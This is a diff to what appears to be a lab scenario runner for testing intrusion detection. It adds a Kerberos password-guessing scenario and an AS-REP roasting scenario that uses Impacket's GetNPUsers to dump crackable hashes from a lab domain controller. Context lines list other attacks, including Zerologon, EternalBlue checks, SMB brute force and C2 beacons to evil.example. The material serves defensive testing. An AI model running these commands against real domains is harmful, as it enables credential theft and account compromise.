@@ -48,7 +48,9 @@ zerologon             client 46 attack T1210                                Zero
 ms17_010_scan         client 45 attack T1210                                nmap's smb-vuln-ms17-010 and smb-double-pulsar-backdoor against the file server, then EternalBlue's transaction pair (eternalblue_try.py): the SMB1 check, DoublePulsar ping and exploit trigger of WannaCry-style tooling | Samba is not vulnerable: scored on the client's requests
 account_manipulation  client 47 attack T1136,T1098,T1098.007              Accounts made and changed over SAMR against the DC: Impacket addcomputer.py -method SAMR (a machine account and its password), then Guest put into Builtin\Administrators (samr_group_join.py)
 smb_brute_force       client 48 attack T1110                                Password guessing over SMB: smbclient logs on to the file server 12 times with wrong passwords, one after the other
-kerberos_spray        client 52 attack T1110                                Kerberos password spray against the DC's KDC, as kerbrute sends it: one password over the administrator and six unknown accounts, in turn (kerberos_spray.py, Impacket's AS-REQs over TCP)
+kerberos_spray        client 52 attack T1110.003                            Kerberos password spray against the DC's KDC, as kerbrute sends it: one password over the administrator and six unknown accounts, in turn (kerberos_spray.py, Impacket's AS-REQs over TCP)
+kerberos_guess        client 53 attack T1110.001                            Kerberos password guessing against the DC's KDC: twelve passwords tried on one account, one after the other (kerberos_spray.py --tries 12, Impacket's AS-REQs over TCP)
+asrep_roast           client 54 attack T1558.004                            AS-REP roasting: Impacket's GetNPUsers asks the DC's KDC for TGTs without pre-authentication for the administrator, an unknown name and an account made without the requirement (DONT_REQ_PREAUTH), whose AS-REP it prints as a hash to crack
 c2_http_v4            client 33 attack T1071.001                            HTTP beacons (GET, POST) to the C2 address
 c2_https_sni_v4       client 34 attack T1071.001,T1573                      HTTPS beacon to the C2 address, SNI api.evil.example
 c2_dns                client 35 attack T1071.004                            DNS beacons: A and TXT queries under evil.example at the resolver
@@ -170,6 +172,17 @@ sc_kerberos_spray() {
 	run spray /usr/bin/python3 "$SCEN_HERE/kerberos_spray.py" "$LAB_DC_IP4" "$DCLAB_REALM" \
 		'Spring2026!' "$DCLAB_ADMIN" xh.nobody1 "$DCLAB_ADMIN" xh.nobody2 "$DCLAB_ADMIN" \
 		xh.nobody3 "$DCLAB_ADMIN" xh.nobody4 "$DCLAB_ADMIN" xh.nobody5 "$DCLAB_ADMIN" xh.nobody6
+}
+sc_kerberos_guess() {
+	run guess /usr/bin/python3 "$SCEN_HERE/kerberos_spray.py" --tries 12 "$LAB_DC_IP4" \
+		"$DCLAB_REALM" 'Winter2026!' "$DCLAB_ADMIN"
+}
+sc_asrep_roast() {
+	# made in the DC's database: no traffic of its own
+	dclab_user_no_preauth xhroast 'Xh-Roast-Pass1!' >"$SCEN_DIR/asrep_roast.user.out" 2>&1
+	printf '%s\n' "$DCLAB_ADMIN" xhroast xh.nobody7 >"$SCEN_DIR/asrep_roast.users"
+	run roast /usr/bin/python3 "$IMP/GetNPUsers.py" "$DCLAB_REALM/" -no-pass -usersfile \
+		"$SCEN_DIR/asrep_roast.users" -dc-ip "$LAB_DC_IP4" -format hashcat
 }
 sc_ms17_010_scan() {
 	run nmap nmap -n -Pn -p 445 --script smb-vuln-ms17-010,smb-double-pulsar-backdoor \
